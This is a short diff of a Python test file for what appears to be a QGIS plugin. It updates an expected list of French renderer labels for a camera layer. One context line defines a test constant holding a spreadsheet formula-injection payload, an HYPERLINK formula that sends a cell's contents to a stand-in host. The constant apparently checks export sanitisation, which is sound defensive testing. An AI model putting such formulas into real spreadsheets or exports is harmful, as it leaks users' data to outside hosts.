@@ -250,7 +250,11 @@ def test_layers_loaded_by_qgis_get_their_style_and_an_empty_rejected_is_not_load
     project.addMapLayer(cameras)
     details.postProcessor().postProcessLayer(cameras, context, feedback)
     labels = [r.label() for r in cameras.renderer().rootRule().children()]
-    assert labels == ["Masquage requis", "Pas de masquage requis"]
+    assert labels == [
+        "Masquage requis",
+        "Non auditée (aucune parcelle à portée)",
+        "Pas de masquage requis",
+    ]
 
 
 HOSTILE = '=HYPERLINK("http://x.example/?"&A1;"clic")'
